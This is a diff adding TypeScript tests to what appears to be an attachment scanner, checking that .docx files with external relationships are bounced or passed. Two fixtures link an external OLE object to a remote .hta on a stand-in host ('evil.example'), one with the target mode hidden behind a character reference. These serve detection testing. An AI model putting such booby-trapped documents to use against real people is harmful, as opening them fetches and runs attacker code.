@@ -253,3 +253,39 @@ describe('A48-12b (read-back): a link whose harmless moniker comes first', () =>
     ).toBe('DEFAULT');
   });
 });
+
+// Read-back of A48-12b: the same link from a .docx, as an external relationship (Word fetches an external OLE
+// object, a template or a frame as the document opens; a hyperlink only when clicked).
+describe('A48-12c (read-back): a .docx whose relationships link an object outside it', () => {
+  const withRels = (relationship: string) =>
+    zipFile([
+      {
+        name: 'word/document.xml',
+        data: '<w:document><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>',
+      },
+      {
+        name: 'word/_rels/document.xml.rels',
+        data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
+      },
+    ]);
+  const ole = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject';
+  it('bounces an external OLE object at a remote .hta', async () => {
+    const docx = withRels(
+      `<Relationship Id="rId9" Type="${ole}" Target="http://evil.example/invoice.hta?x=1" TargetMode="External"/>`,
+    );
+    expect(await verdict('Invoice.docx', docx, DOCX)).toBe('BOUNCE');
+  });
+  it('bounces it with its target mode spelled by a reference', async () => {
+    const docx = withRels(
+      `<Relationship Id="rId9" Type="${ole}" Target="http://evil.example/invoice.hta" TargetMode="&#69;xternal"/>`,
+    );
+    expect(await verdict('Invoice.docx', docx, DOCX)).toBe('BOUNCE');
+  });
+  it('(control) sends a hyperlink to a download and a template on the disk', async () => {
+    const docx = withRels(
+      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://vendor.example/setup.exe" TargetMode="External"/>' +
+        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\\Users\\ann\\Templates\\Normal.dotm" TargetMode="External"/>',
+    );
+    expect(await verdict('Invoice.docx', docx, DOCX)).toBe('DEFAULT');
+  });
+});
